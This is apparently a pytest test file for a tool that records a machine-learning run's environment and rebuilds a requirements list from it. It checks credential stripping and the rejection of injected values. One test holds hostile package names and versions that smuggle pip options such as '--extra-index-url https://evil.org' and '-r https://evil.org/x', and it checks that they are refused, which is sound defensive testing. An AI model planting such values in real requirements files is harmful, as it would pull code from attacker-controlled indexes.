"""environment.json: enough to rebuild the environment of a run, and nothing that should stay secret."""

import json
import shutil
import subprocess
import sys
from importlib.metadata import PathDistribution, distributions

import pytest
from packaging.requirements import Requirement

from vaezoo.runs import provenance
from vaezoo.runs.provenance import (
    describe_environment,
    find_origin,
    format_requirements,
    main,
    normalise_name,
    read_git_state,
)


def test_requirements_are_exactly_what_is_installed(tmp_path, capsys):
    (tmp_path / "environment.json").write_text(json.dumps(describe_environment(0, "cpu", {})))
    main([str(tmp_path)])
    text = capsys.readouterr().out
    lines = [Requirement(line.partition(" #")[0]) for line in text.splitlines() if not line.startswith("#")]
    installed = {normalise_name(one): one.version for one in distributions()}
    assert installed.pop("vaezoo")
    assert {line.name: str(line.specifier).removeprefix("==") for line in lines if not line.url} == {
        name: version for name, version in installed.items() if name not in {line.name for line in lines if line.url}
    }
    assert f"# Python {sys.version.split()[0]} on " in text
    assert "# vaezoo==" in text


@pytest.mark.parametrize("arguments", [[], ["nowhere"]])
def test_what_is_no_run_is_named(arguments, in_tmp, capsys):
    with pytest.raises(SystemExit) as end:
        main(arguments)
    assert end.value.code == 2
    assert "environment.json: it is not there" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("url", "more", "expected"),
    [
        ("https://user:secret@host.org/a-1.whl", {}, "https://host.org/a-1.whl"),
        (
            "https://token@host.org/a.git",
            {"vcs_info": {"vcs": "git", "commit_id": "c0"}},
            "git+https://host.org/a.git@c0",
        ),
        ("file:///wheels/a-1+cpu.whl", {}, "file:///wheels/a-1+cpu.whl"),
    ],
)
def test_packages_from_elsewhere_are_named_without_passwords(url, more, expected, tmp_path):
    info = tmp_path / "a-1+cpu.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Name: A_b\nVersion: 1+cpu\n")
    (info / "direct_url.json").write_text(json.dumps({"url": url, **more}))
    one = PathDistribution(info)
    assert (normalise_name(one), one.version, find_origin(one)) == ("a-b", "1+cpu", expected)
    told = {"python": "3", "platform": "p", "git": None, "packages": {"a-b": "1+cpu"}, "origins": {"a-b": expected}}
    line = format_requirements(told).splitlines()[-1]
    if url.startswith("file"):
        assert line == f"a-b==1+cpu  # from {expected}"
    else:
        assert Requirement(line).url == expected


@pytest.mark.parametrize(
    "change",
    [
        {"packages": {"--extra-index-url https://evil.org a": "1"}},
        {"packages": {"a\n--index-url https://evil.org": "1"}},
        {"packages": {"a": "1\n-r https://evil.org/x"}},
        {"packages": {"a": "1 --hash=x"}},
        {"packages": {"a": "1"}, "origins": {"a": "https://host.org/a.whl\n-e ."}},
        {"packages": {"a": "1"}, "origins": {"a": "-e ."}},
    ],
)
def test_a_package_whose_name_is_none_is_not_listed(change, tmp_path, capsys):
    environment = {"python": "3", "platform": "p", "git": None, "packages": {}, "origins": {}}
    (tmp_path / "environment.json").write_text(json.dumps({**environment, **change}))
    with pytest.raises(SystemExit):
        main([str(tmp_path)])
    output = capsys.readouterr()
    assert output.out == ""
    assert "names a package that is none" in output.err


def test_facts_of_an_environment_stay_comments():
    environment = {"python": "3\n-r x", "platform": "p\r-e .", "packages": {}, "origins": {}}
    text = format_requirements({**environment, "git": {"commit": "c\n-e .", "changed": False}})
    assert all(line.startswith("# ") for line in text.splitlines())


def test_variables_with_keys_are_not_kept(monkeypatch):
    monkeypatch.setenv("WANDB_API_KEY", "very secret")
    monkeypatch.setenv("OMP_NUM_THREADS", "3")
    told = describe_environment(0, "cpu", {})
    assert told["variables"]["OMP_NUM_THREADS"] == "3"
    assert "very secret" not in json.dumps({**told, "git": None})


def test_the_changes_of_a_checkout_can_be_applied_to_its_commit(tmp_path, monkeypatch):
    """An edited file, a removed and a new one, text and binary; other folders are none of ours."""

    def git(*arguments: str, **options) -> None:
        who = ["-c", "user.name=a", "-c", "user.email=a@b"]
        subprocess.run(["git", *who, *arguments], cwd=tmp_path / "it", check=True, capture_output=True, **options)

    ours = tmp_path / "it" / "vaezoo"
    ours.mkdir(parents=True)
    monkeypatch.setattr(provenance, "__file__", str(ours / "runs" / "provenance.py"))
    for name in ("__init__.py", "edited.py", "removed.py"):
        (ours / name).write_text("x = 0\n")
    assert read_git_state() is None
    git("init")
    assert read_git_state() is None, "installed within the checkout of something else"
    git("add", ".")
    git("commit", "-m", "all")
    assert (read_git_state()["changed"], read_git_state()["diff"]) == (False, "")
    (ours / "edited.py").write_text("x = 'ü'\n")
    (ours / "removed.py").unlink()
    (ours / "new ü.py").write_text("y = 1\n")
    (ours / "new.bin").write_bytes(bytes(range(256)))
    (tmp_path / "it" / "notes.txt").write_text("mine")
    state = read_git_state()
    assert state["changed"]
    assert "notes.txt" not in state["diff"]
    wanted = {path.name: path.read_bytes() for path in ours.iterdir()}
    git("clean", "-fdq", "vaezoo")
    git("checkout", "-q", state["commit"], "--", ".")
    git("apply", input=state["diff"].encode())
    assert {path.name: path.read_bytes() for path in ours.iterdir()} == wanted


def test_without_git_there_is_no_commit(monkeypatch):
    assert shutil.which("git")
    monkeypatch.setenv("PATH", "")
    assert read_git_state() is None
